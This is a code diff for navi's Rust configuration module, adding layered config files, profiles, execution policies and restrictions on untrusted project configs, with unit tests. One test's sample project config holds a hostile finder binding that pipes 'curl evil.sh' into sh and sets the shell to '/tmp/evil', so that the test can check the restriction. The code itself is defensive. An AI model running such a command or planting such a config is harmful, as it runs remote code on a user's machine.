@@ -1,7 +1,11 @@
-use crate::filesystem::default_config_pathbuf;
+use crate::common::fs;
+use crate::filesystem::{default_config_pathbuf, project_config_pathbuf, system_config_pathbuf};
+use crate::parser::matches_glob;
 use crate::prelude::*;
 use crossterm::style::Color as TerminalColor;
 use serde::de;
+use std::collections::{BTreeMap, BTreeSet};
+use toml::Table;
 
 #[derive(Deserialize, Debug)]
 pub struct Color(#[serde(deserialize_with = "color_deserialize")] TerminalColor);
@@ -48,12 +52,34 @@ pub struct Finder {
 pub struct Cheats {
     pub path: Option<String>,
     pub paths: Vec<String>,
+    pub local: LocalCheats,
+}
+
+/// Cheatsheets kept in a project, next to its code.
+#[derive(Deserialize, Debug)]
+#[serde(default)]
+pub struct LocalCheats {
+    pub enabled: bool,
+    /// How many directories above the current one are searched
+    pub depth: usize,
+    /// Directories (or single cheat files) looked for in each of these directories
+    pub names: Vec<String>,
 }
 
 #[derive(Deserialize, Default, Debug)]
 #[serde(default)]
 pub struct Search {
     pub tags: Option<String>,
+    pub show_unavailable: bool,
+}
+
+/// The log of the snippets navi executed, copied or printed.
+#[derive(Deserialize, Debug)]
+#[serde(default)]
+pub struct History {
+    pub enabled: bool,
+    /// Defaults to `history.jsonl` in the data directory of navi
+    pub path: Option<String>,
 }
 
 #[derive(Deserialize, Debug)]
@@ -61,6 +87,101 @@ pub struct Search {
 pub struct Shell {
     pub command: String,
     pub finder_command: Option<String>,
+    /// Whether values are quoted, depending on where they're written in snippets
+    pub quote_values: bool,
+}
+
+/// A regex of an execution policy, compiled once when the configuration is loaded,
+/// so that an invalid one is reported right away.
+#[derive(Debug)]
+pub struct Rule(Regex);
+
+impl Rule {
+    pub fn is_match(&self, command: &str) -> bool {
+        self.0.is_match(command)
+    }
+
+    pub fn as_str(&self) -> &str {
+        self.0.as_str()
+    }
+}
+
+impl<'de> Deserialize<'de> for Rule {
+    fn deserialize<D>(deserializer: D) -> Result<Self, D::Error>
+    where
+        D: de::Deserializer<'de>,
+    {
+        let pattern = String::deserialize(deserializer)?;
+        Regex::new(&pattern).map(Rule).map_err(|e| {
+            de::Error::custom(format!(
+                "invalid regex `{pattern}` in the execution policy: {e}"
+            ))
+        })
+    }
+}
+
+impl Serialize for Rule {
+    fn serialize<S>(&self, serializer: S) -> Result<S::Ok, S::Error>
+    where
+        S: Serializer,
+    {
+        serializer.serialize_str(self.as_str())
+    }
+}
+
+#[derive(Deserialize, Serialize, Default, Debug)]
+#[serde(default)]
+pub struct Policy {
+    pub allow: Vec<Rule>,
+    pub deny: Vec<Rule>,
+    pub read_only: bool,
+    pub require_confirm: Vec<Rule>,
+}
+
+/// A configuration file merged into the effective configuration.
+#[derive(Debug)]
+pub struct Layer {
+    pub name: &'static str,
+    pub path: PathBuf,
+}
+
+impl Layer {
+    pub fn description(&self) -> String {
+        format!("the {} configuration ({})", self.name, self.path.display())
+    }
+}
+
+/// Project configurations which may set any value, instead of only the ones of
+/// [`UNTRUSTED_PROJECT_KEYS`].
+#[derive(Deserialize, Default, Debug)]
+#[serde(default)]
+pub struct Project {
+    /// Directories of trusted projects, as globs where `*` matches any characters
+    pub trusted: Vec<String>,
+}
+
+/// The values a project configuration can set unless the project is trusted: the ones which
+/// don't change which programs navi runs, unlike `shell.command` or `finder.overrides`, nor
+/// re-enable features the user turned off, like `cheats.local`.
+const UNTRUSTED_PROJECT_KEYS: &[&str] = &[
+    "style",
+    "search",
+    "policy",
+    "cheats.path",
+    "cheats.paths",
+    "finder.delimiter_var",
+];
+
+/// The configuration files, merged in order of precedence.
+#[derive(Debug, Default)]
+pub struct LayeredConfig {
+    pub toml: TomlConfig,
+    /// The layer that set each value, by dotted key, e.g. `cheats.paths`
+    pub sources: BTreeMap<String, (toml::Value, String)>,
+    /// Every layer's `[policy]`, as all of them are enforced
+    pub policies: Vec<(String, Policy)>,
+    /// The description of every configuration file, from the lowest to the highest precedence
+    pub files: Vec<String>,
 }
 
 #[derive(Deserialize, Debug)]
@@ -71,30 +192,299 @@ pub struct TomlConfig {
     pub cheats: Cheats,
     pub search: Search,
     pub shell: Shell,
+    pub history: History,
+    pub project: Project,
     pub source: String, // <= The source of the current configuration
 }
 
+/// Merges `layer` into `base`, value by value, remembering which layer set each of them.
+fn merge(
+    base: &mut Table,
+    layer: Table,
+    prefix: &str,
+    layer_name: &str,
+    sources: &mut BTreeMap<String, (toml::Value, String)>,
+) {
+    for (key, value) in layer {
+        let path = if prefix.is_empty() {
+            key.clone()
+        } else {
+            format!("{prefix}.{key}")
+        };
+
+        match value {
+            toml::Value::Table(table) => {
+                if !base.get(&key).is_some_and(toml::Value::is_table) {
+                    sources.remove(&path);
+                    base.insert(key.clone(), toml::Value::Table(Table::new()));
+                }
+                if let Some(toml::Value::Table(nested)) = base.get_mut(&key) {
+                    merge(nested, table, &path, layer_name, sources);
+                }
+            }
+            value => {
+                // A value replaces whatever was set before, including a whole table
+                let nested_prefix = format!("{path}.");
+                sources.retain(|k, _| !k.starts_with(&nested_prefix));
+                sources.insert(path, (value.clone(), layer_name.to_string()));
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+/// Removes the values an untrusted project configuration can't set, and returns their keys.
+fn restrict_untrusted(table: &mut Table, prefix: &str) -> Vec<String> {
+    let mut removed = vec![];
+    let keys: Vec<String> = table.keys().cloned().collect();
+
+    for key in keys {
+        let path = if prefix.is_empty() {
+            key.clone()
+        } else {
+            format!("{prefix}.{key}")
+        };
+        if UNTRUSTED_PROJECT_KEYS.contains(&path.as_str()) {
+            continue;
+        }
+
+        let nested_prefix = format!("{path}.");
+        let has_allowed_keys = UNTRUSTED_PROJECT_KEYS
+            .iter()
+            .any(|k| k.starts_with(&nested_prefix));
+        match table.get_mut(&key) {
+            Some(toml::Value::Table(nested)) if has_allowed_keys => {
+                removed.extend(restrict_untrusted(nested, &path));
+            }
+            _ => {
+                table.remove(&key);
+                removed.push(path);
+            }
+        }
+    }
+
+    removed
+}
+
+/// Whether the project of a `.navi/config.toml` matches one of the `trusted` globs.
+fn is_trusted(project_config: &Path, trusted: &[String]) -> bool {
+    project_config
+        .parent()
+        .and_then(Path::parent)
+        .is_some_and(|project_dir| is_trusted_project(project_dir, trusted))
+}
+
+/// Whether a project directory, the one containing its `.navi` directory, matches one of the
+/// `trusted` globs.
+pub fn is_trusted_project(project_dir: &Path, trusted: &[String]) -> bool {
+    let project_dir = project_dir.to_string_lossy();
+
+    trusted.iter().any(|pattern| {
+        let pattern = fs::expand_home(pattern);
+        matches_glob(&project_dir, pattern.trim_end_matches(['/', '\\']))
+    })
+}
+
+/// The configuration files to merge, from the lowest to the highest precedence.
+fn layers(explicit: Option<PathBuf>) -> Result<Vec<Layer>> {
+    let user = default_config_pathbuf().ok();
+    let project = std::env::current_dir().ok().and_then(|cwd| {
+        let home = etcetera::home_dir().ok();
+        project_config_pathbuf(&cwd, home.as_deref())
+    });
+
+    layers_of(system_config_pathbuf(), user, project, explicit)
+}
+
+fn layers_of(
+    system: PathBuf,
+    user: Option<PathBuf>,
+    project: Option<PathBuf>,
+    explicit: Option<PathBuf>,
+) -> Result<Vec<Layer>> {
+    let mut layers = vec![];
+
+    if system.exists() {
+        layers.push(Layer {
+            name: "system",
+            path: system,
+        });
+    }
+
+    if let Some(user) = user
+        && user.exists()
+    {
+        layers.push(Layer {
+            name: "user",
+            path: user,
+        });
+    }
+
+    if let Some(project) = project {
+        layers.push(Layer {
+            name: "project",
+            path: project,
+        });
+    }
+
+    if let Some(path) = explicit {
+        if !path.exists() {
+            return Err(anyhow!(
+                "The configuration file `{}` doesn't exist",
+                path.display()
+            ));
+        }
+        layers.push(Layer {
+            name: "explicit",
+            path,
+        });
+    }
+
+    Ok(layers)
+}
+
 impl TomlConfig {
-    fn from_path(path: &Path) -> Result<Self> {
-        let content = std::fs::read_to_string(path)?;
-        toml::from_str(&content).map_err(Into::into)
+    /// Reads and merges the system, user, project and explicit configuration files.
+    ///
+    /// Values of later layers override the ones of earlier layers, except for `[policy]`:
+    /// the policy of every layer is enforced.
+    pub fn get(explicit: Option<PathBuf>, profile: Option<&str>) -> Result<LayeredConfig> {
+        Self::from_layers(layers(explicit)?, profile)
     }
 
-    pub fn get() -> Result<TomlConfig> {
-        if let Ok(p) = default_config_pathbuf() {
-            // We're getting the configuration from the default path
+    fn from_layers(layers: Vec<Layer>, profile: Option<&str>) -> Result<LayeredConfig> {
+        let mut merged = Table::new();
+        let mut sources = BTreeMap::new();
+        let mut policies = vec![];
+        let mut profiles = BTreeSet::new();
+        let mut profile_found = false;
+
+        let mut tables = vec![];
+        let mut trusted = vec![];
+        for layer in &layers {
+            let content = std::fs::read_to_string(&layer.path)
+                .with_context(|| format!("Failed to read `{}`", layer.path.display()))?;
+
+            // Deserializing each file on its own reports errors with their file and line
+            let parse_error = || format!("Failed to parse `{}`", layer.path.display());
+            let config = toml::from_str::<TomlConfig>(&content).with_context(parse_error)?;
+            let table: Table = toml::from_str(&content).with_context(parse_error)?;
+
+            // A project can't trust itself
+            if layer.name != "project" {
+                trusted.extend(config.project.trusted);
+            }
+            tables.push(table);
+        }
+
+        for (layer, mut table) in layers.iter().zip(tables) {
+            let parse_error = || format!("Failed to parse `{}`", layer.path.display());
+
+            if layer.name == "project" && !is_trusted(&layer.path, &trusted) {
+                for key in restrict_untrusted(&mut table, "") {
+                    eprintln!(
+                        "Warning: ignoring `{key}` in `{}`, as this project isn't listed in `project.trusted`",
+                        layer.path.display()
+                    );
+                }
+            }
+
+            if let Some(policy) = table.remove("policy") {
+                let policy = Policy::deserialize(policy).with_context(parse_error)?;
+                policies.push((layer.description(), policy));
+            }
+
+            let mut selected = None;
+            if let Some(layer_profiles) = table.remove("profiles") {
+                let layer_profiles =
+                    Table::deserialize(layer_profiles).with_context(parse_error)?;
+                for (name, layer_profile) in layer_profiles {
+                    let profile_error = || {
+                        format!(
+                            "Failed to parse the `{name}` profile of `{}`",
+                            layer.path.display()
+                        )
+                    };
+                    let layer_profile =
+                        Table::deserialize(layer_profile).with_context(profile_error)?;
+                    TomlConfig::deserialize(toml::Value::Table(layer_profile.clone()))
+                        .with_context(profile_error)?;
+                    if profile == Some(name.as_str()) {
+                        selected = Some(layer_profile);
+                    }
+                    profiles.insert(name);
+                }
+            }
 
-            if p.exists() {
-                let mut cfg = TomlConfig::from_path(&p)?;
-                cfg.source = "DEFAULT_CONFIG_FILE".to_string();
+            merge(&mut merged, table, "", &layer.description(), &mut sources);
 
-                return Ok(cfg);
+            // The selected profile of a file overrides this file, but not the ones with a higher
+            // precedence
+            if let Some(mut selected) = selected {
+                let name = profile.unwrap_or_default();
+                let path = &layer.path;
+                let layer = format!("the `{name}` profile of {}", layer.description());
+                if let Some(policy) = selected.remove("policy") {
+                    let policy = Policy::deserialize(policy).with_context(|| {
+                        format!(
+                            "Failed to parse the `{name}` profile of `{}`",
+                            path.display()
+                        )
+                    })?;
+                    policies.push((layer.clone(), policy));
+                }
+                merge(&mut merged, selected, "", &layer, &mut sources);
+                profile_found = true;
             }
         }
 
-        // As no configuration has been found, we set the TOML configuration
-        // to be its default (built-in) value.
-        Ok(TomlConfig::default())
+        if let Some(name) = profile
+            && !profile_found
+        {
+            let available: Vec<_> = profiles.iter().map(String::as_str).collect();
+            return Err(anyhow!(
+                "The profile `{name}` isn't defined in any configuration file{}",
+                if available.is_empty() {
+                    String::new()
+                } else {
+                    format!(" (available profiles: {})", available.join(", "))
+                }
+            ));
+        }
+
+        let mut toml = TomlConfig::deserialize(toml::Value::Table(merged))
+            .context("Failed to merge the configuration files")?;
+        if !layers.is_empty() {
+            toml.source = layers.iter().map(|l| l.name).collect::<Vec<_>>().join(", ");
+        }
+        // Projects are trusted by any file but their own
+        toml.project.trusted = trusted;
+
+        Ok(LayeredConfig {
+            toml,
+            sources,
+            policies,
+            files: layers.iter().map(Layer::description).collect(),
+        })
+    }
+}
+
+impl Default for History {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            path: None,
+        }
+    }
+}
+
+impl Default for LocalCheats {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            depth: 10,
+            names: vec![".navi".to_string()],
+        }
     }
 }
 
@@ -125,6 +515,7 @@ impl Default for Shell {
         Self {
             command: "bash".to_string(),
             finder_command: None,
+            quote_values: false,
         }
     }
 }
@@ -137,7 +528,271 @@ impl Default for TomlConfig {
             cheats: Default::default(),
             search: Default::default(),
             shell: Default::default(),
+            history: Default::default(),
+            project: Default::default(),
             source: "BUILT-IN".to_string(),
         }
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_merge() {
+        let layers = [
+            (
+                "system",
+                r#"
+                [cheats]
+                paths = ["/etc/cheats"]
+                [finder]
+                overrides = "--height 3"
+                "#,
+            ),
+            (
+                "user",
+                r#"
+                [cheats]
+                paths = ["~/cheats"]
+                [shell]
+                command = "zsh"
+                "#,
+            ),
+        ];
+
+        let mut merged = Table::new();
+        let mut sources = BTreeMap::new();
+        for (name, content) in layers {
+            merge(
+                &mut merged,
+                toml::from_str(content).unwrap(),
+                "",
+                name,
+                &mut sources,
+            );
+        }
+
+        let cfg = TomlConfig::deserialize(toml::Value::Table(merged)).unwrap();
+        assert_eq!(cfg.cheats.paths, ["~/cheats"]);
+        assert_eq!(cfg.finder.overrides.as_deref(), Some("--height 3"));
+        assert_eq!(cfg.shell.command, "zsh");
+
+        let layer_of = |key: &str| sources.get(key).map(|(_, layer)| layer.as_str());
+        assert_eq!(layer_of("cheats.paths"), Some("user"));
+        assert_eq!(layer_of("finder.overrides"), Some("system"));
+        assert_eq!(layer_of("shell.command"), Some("user"));
+    }
+
+    fn write_layer(dir: &Path, name: &str, content: &str) -> PathBuf {
+        std::fs::create_dir_all(dir).unwrap();
+        let path = dir.join(name);
+        std::fs::write(&path, content).unwrap();
+        path
+    }
+
+    #[test]
+    fn test_layers_order() {
+        let root = std::env::temp_dir().join(format!("navi-layers-{}", std::process::id()));
+        let system = write_layer(&root.join("etc"), "config.toml", "");
+        let user = write_layer(&root.join("user"), "config.toml", "");
+        let project = write_layer(&root.join("project/.navi"), "config.toml", "");
+        let explicit = write_layer(&root, "explicit.toml", "");
+
+        let layers = layers_of(
+            system.clone(),
+            Some(user.clone()),
+            Some(project.clone()),
+            Some(explicit.clone()),
+        )
+        .unwrap();
+        let names: Vec<_> = layers.iter().map(|l| l.name).collect();
+        assert_eq!(names, ["system", "user", "project", "explicit"]);
+        assert_eq!(layers[2].path, project);
+
+        // Missing system and user files are skipped, a missing explicit one is an error
+        let missing = root.join("missing.toml");
+        let layers = layers_of(missing.clone(), Some(missing.clone()), None, None).unwrap();
+        assert!(layers.is_empty());
+        assert!(layers_of(missing.clone(), None, None, Some(missing)).is_err());
+
+        std::fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn test_untrusted_project() {
+        let root = std::env::temp_dir().join(format!("navi-untrusted-{}", std::process::id()));
+        let user = write_layer(
+            &root.join("user"),
+            "config.toml",
+            r#"
+            [shell]
+            command = "bash"
+            "#,
+        );
+        let project = write_layer(
+            &root.join("project/.navi"),
+            "config.toml",
+            r#"
+            [cheats]
+            paths = ["cheats"]
+            local = { names = ["../evil"] }
+            [finder]
+            overrides = "--bind 'enter:execute(curl evil.sh | sh)'"
+            delimiter_var = "\\|"
+            [shell]
+            command = "/tmp/evil"
+            finder_command = "/tmp/evil"
+            [history]
+            path = "/tmp/history"
+            [project]
+            trusted = ["*"]
+            "#,
+        );
+        let layers = || {
+            layers_of(
+                root.join("missing"),
+                Some(user.clone()),
+                Some(project.clone()),
+                None,
+            )
+            .unwrap()
+        };
+
+        let config = TomlConfig::from_layers(layers(), None).unwrap();
+        assert_eq!(config.toml.cheats.paths, ["cheats"]);
+        assert_eq!(config.toml.cheats.local.names, [".navi"]);
+        assert_eq!(config.toml.finder.delimiter_var.as_deref(), Some("\\|"));
+        assert_eq!(config.toml.finder.overrides, None);
+        assert_eq!(config.toml.shell.command, "bash");
+        assert_eq!(config.toml.shell.finder_command, None);
+        assert_eq!(config.toml.history.path, None);
+        assert!(config.toml.project.trusted.is_empty());
+
+        // Trusting the project from the user configuration lifts the restriction
+        let trusted = format!("[project]\ntrusted = [\"{}/*\"]\n", root.display());
+        std::fs::write(&user, trusted).unwrap();
+        let config = TomlConfig::from_layers(layers(), None).unwrap();
+        assert_eq!(config.toml.shell.command, "/tmp/evil");
+        assert!(config.toml.finder.overrides.is_some());
+        // A trusted project still can't trust other projects
+        assert_eq!(
+            config.toml.project.trusted,
+            [format!("{}/*", root.display())]
+        );
+
+        std::fs::remove_dir_all(&root).unwrap();
+    }
+
+    #[test]
+    fn test_restrict_untrusted() {
+        let mut table: Table = toml::from_str(
+            r#"
+            profiles = { work = { shell = { command = "zsh" } } }
+            [style.tag]
+            color = "red"
+            [finder]
+            overrides_var = "--exact"
+            delimiter_var = ","
+            [policy]
+            deny = ["^rm "]
+            "#,
+        )
+        .unwrap();
+
+        let mut removed = restrict_untrusted(&mut table, "");
+        removed.sort();
+        assert_eq!(removed, ["finder.overrides_var", "profiles"]);
+
+        let keys: Vec<_> = table.keys().map(String::as_str).collect();
+        assert_eq!(keys, ["finder", "policy", "style"]);
+        assert!(table["finder"].get("delimiter_var").is_some());
+    }
+
+    #[test]
+    fn test_is_trusted() {
+        let config = Path::new("/home/me/src/acme/api/.navi/config.toml");
+        assert!(is_trusted(config, &["/home/me/src/acme/*".to_string()]));
+        assert!(is_trusted(config, &["/home/me/src/acme/api/".to_string()]));
+        assert!(!is_trusted(config, &["/home/me/src/other/*".to_string()]));
+        assert!(!is_trusted(config, &[]));
+    }
+
+    #[test]
+    fn test_profiles() {
+        let root = std::env::temp_dir().join(format!("navi-profiles-{}", std::process::id()));
+        let user = write_layer(
+            &root.join("user"),
+            "config.toml",
+            r#"
+            [shell]
+            command = "bash"
+            [profiles.work]
+            shell = { command = "zsh" }
+            finder = { overrides = "--height 20" }
+            policy = { deny = ["^terraform destroy"] }
+            "#,
+        );
+        let explicit = write_layer(
+            &root,
+            "explicit.toml",
+            r#"
+            [shell]
+            command = "fish"
+            [profiles.personal]
+            search = { tags = "home" }
+            "#,
+        );
+        let layers = || {
+            layers_of(
+                root.join("missing"),
+                Some(user.clone()),
+                None,
+                Some(explicit.clone()),
+            )
+            .unwrap()
+        };
+
+        // Without a profile, none applies
+        let config = TomlConfig::from_layers(layers(), None).unwrap();
+        assert_eq!(config.toml.shell.command, "fish");
+        assert_eq!(config.toml.finder.overrides, None);
+        assert!(config.policies.is_empty());
+
+        // The profile of the user file doesn't override the explicit file
+        let config = TomlConfig::from_layers(layers(), Some("work")).unwrap();
+        assert_eq!(config.toml.shell.command, "fish");
+        assert_eq!(config.toml.finder.overrides.as_deref(), Some("--height 20"));
+        assert_eq!(config.toml.search.tags, None);
+        assert_eq!(config.policies.len(), 1);
+        assert!(config.policies[0].0.starts_with("the `work` profile of"));
+        let layer_of = |key: &str| config.sources.get(key).map(|(_, layer)| layer.clone());
+        assert!(
+            layer_of("finder.overrides")
+                .unwrap()
+                .starts_with("the `work` profile of")
+        );
+
+        let config = TomlConfig::from_layers(layers(), Some("personal")).unwrap();
+        assert_eq!(config.toml.search.tags.as_deref(), Some("home"));
+        assert_eq!(config.toml.finder.overrides, None);
+
+        let error = TomlConfig::from_layers(layers(), Some("missing")).unwrap_err();
+        assert!(
+            error
+                .to_string()
+                .contains("available profiles: personal, work")
+        );
+
+        // An invalid policy of a profile names the profile and its file
+        std::fs::write(&user, "[profiles.work]\npolicy = { deny = [\"(\"] }\n").unwrap();
+        let error = TomlConfig::from_layers(layers(), Some("work")).unwrap_err();
+        assert_eq!(
+            error.to_string(),
+            format!("Failed to parse the `work` profile of `{}`", user.display())
+        );
+
+        std::fs::remove_dir_all(&root).unwrap();
+    }
+}